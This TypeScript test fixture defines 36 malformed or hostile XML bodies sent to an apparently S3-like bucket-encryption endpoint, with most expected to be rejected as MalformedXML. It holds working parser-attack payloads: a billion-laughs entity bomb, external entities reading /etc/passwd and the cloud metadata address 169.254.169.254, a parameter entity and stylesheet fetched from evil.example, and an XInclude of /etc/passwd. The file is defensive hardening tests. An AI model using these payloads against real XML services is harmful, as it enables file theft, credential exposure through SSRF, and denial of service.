// XML that would make a parser fetch, swell or read two things: sent as the document that settles a bucket's encryption.
import { type HostileInput, row } from './input.ts';

const BAD = '400 MalformedXML, goes on';
const RULE =
  '<Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>aws:kms</SSEAlgorithm><KMSMasterKeyID>the-default-key</KMSMasterKeyID></ApplyServerSideEncryptionByDefault></Rule>';
const NAME = 'ServerSideEncryptionConfiguration';
const GOOD = `<${NAME} xmlns="http://s3.amazonaws.com/doc/2006-03-01/">${RULE}</${NAME}>`;

const document = (id: string, input: string, body: string | Buffer, sees: string = BAD): HostileInput =>
  row(id, input, sees, { path: '/inject?encryption=', body });
const inRule = (text: string) => GOOD.replace('</Rule>', `${text}</Rule>`);
const keyed = (text: string) => GOOD.replace('the-default-key', text);

const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>`;

export const documents: readonly HostileInput[] = [
  document('X01', 'a document type', `<!DOCTYPE ${NAME}>${GOOD}`),
  document('X02', 'a billion laughs', `${LAUGHS}${keyed('&j;')}`),
  document(
    'X03',
    'an external entity: a file',
    `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${keyed('&a;')}`,
  ),
  document(
    'X04',
    'an external entity: a URL',
    `<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/">]>${keyed('&a;')}`,
  ),
  document(
    'X05',
    'a parameter entity',
    `<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>${GOOD}`,
  ),
  document('X06', 'an entity that nobody declared', keyed('&madeup;')),
  document('X07', 'a processing instruction', `<?xml-stylesheet href="http://evil.example/"?>${GOOD}`),
  document('X08', 'a comment inside a value', keyed('the-default<!-- -->-key')),
  document('X09', 'CDATA', keyed('<![CDATA[the-default-key]]>')),
  document(
    'X10',
    'a prefix',
    GOOD.replaceAll('Rule>', 's:Rule>').replace(
      'xmlns=',
      'xmlns:s="http://s3.amazonaws.com/doc/2006-03-01/" xmlns=',
    ),
  ),
  document('X11', 'a foreign namespace', GOOD.replace('s3.amazonaws.com', 'evil.example')),
  document(
    'X12',
    'XInclude',
    GOOD.replace('xmlns=', 'xmlns:xi="http://www.w3.org/2001/XInclude" xmlns=').replace(
      '<Rule>',
      '<xi:include href="/etc/passwd"/><Rule>',
    ),
  ),
  document('X13', 'a foreign attribute', GOOD.replace('<Rule>', '<Rule a="b">')),
  document('X14', 'two roots', `${GOOD}${GOOD}`),
  document('X15', 'bytes behind the root', `${GOOD}x`),
  document('X16', 'no end', GOOD.slice(0, -3)),
  document('X17', 'another root', GOOD.replaceAll(NAME, 'CreateBucketConfiguration')),
  document('X18', 'two rules', GOOD.replace(RULE, RULE + RULE)),
  document(
    'X19',
    'an element twice',
    GOOD.replace('<SSEAlgorithm>', '<SSEAlgorithm>AES256</SSEAlgorithm><SSEAlgorithm>'),
  ),
  document('X20', 'an element in another case', inRule('<bucketKeyEnabled>true</bucketKeyEnabled>')),
  document('X21', 'an element that S3 does not have', inRule('<MadeUp/>')),
  document('X22', 'text between elements', inRule('AES256')),
  document('X23', '10,000 levels', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`),
  document('X24', '200,000 elements', GOOD.replace('<Rule>', `${'<a/>'.repeat(200_000)}<Rule>`)),
  document('X25', 'an attribute of 1 MiB', GOOD.replace('<Rule>', `<Rule a="${'b'.repeat(1024 * 1024)}">`)),
  document('X26', 'UTF-16', Buffer.from(`\ufeff${GOOD}`, 'utf16le')),
  document('X27', 'an encoding that is not UTF-8', `<?xml version="1.0" encoding="ISO-8859-1"?>${GOOD}`),
  document('X28', 'bytes that are not UTF-8', Buffer.from(keyed('\xff'), 'latin1')),
  document('X29', 'XML 1.1', `<?xml version="1.1"?>${GOOD}`),
  document('X30', 'a reference to NUL', keyed('&#0;')),
  document('X31', 'a reference to a lone surrogate', keyed('&#xD800;')),
  document('X32', 'NUL', keyed('\0')),
  document('X33', 'JSON', '{"Rule":[]}'),
  document('X34', 'spaces alone', ' '),
  document(
    'X35',
    'white space around the key, which would be another',
    keyed(' the-default-key '),
    '403 AccessDenied, goes on',
  ),
  document(
    'X36',
    'a key that the rule does not allow, by references to its characters',
    keyed('&#97;nother'),
    '403 AccessDenied, goes on',
  ),
];
